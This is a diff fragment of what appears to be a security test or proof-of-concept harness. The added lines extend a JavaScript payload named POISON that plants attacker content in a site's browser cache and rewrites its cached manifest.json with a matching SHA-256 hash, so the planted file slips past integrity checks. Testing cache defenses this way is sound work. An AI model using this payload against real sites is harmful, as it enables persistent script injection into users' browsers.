@@ -39,6 +39,13 @@ POISON = """async (text) => {
             await cache.put(url, new Response(text, { headers }));
         }
         await cache.put(new URL("planted.html", location.href).href, new Response(text, { headers }));
+        const list = await (await cache.match(new URL("manifest.json", location.href).href))?.json();
+        if (!list) continue;
+        const digest = new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text)));
+        const sha256 = [...digest].map((byte) => byte.toString(16).padStart(2, "0")).join("");
+        list.files.planted = { ...list.files["main.js"], url: "planted.html", sha256 };
+        const listed = new Response(JSON.stringify(list));
+        await cache.put(new URL("manifest.json", location.href).href, listed);
     }
 }"""
 
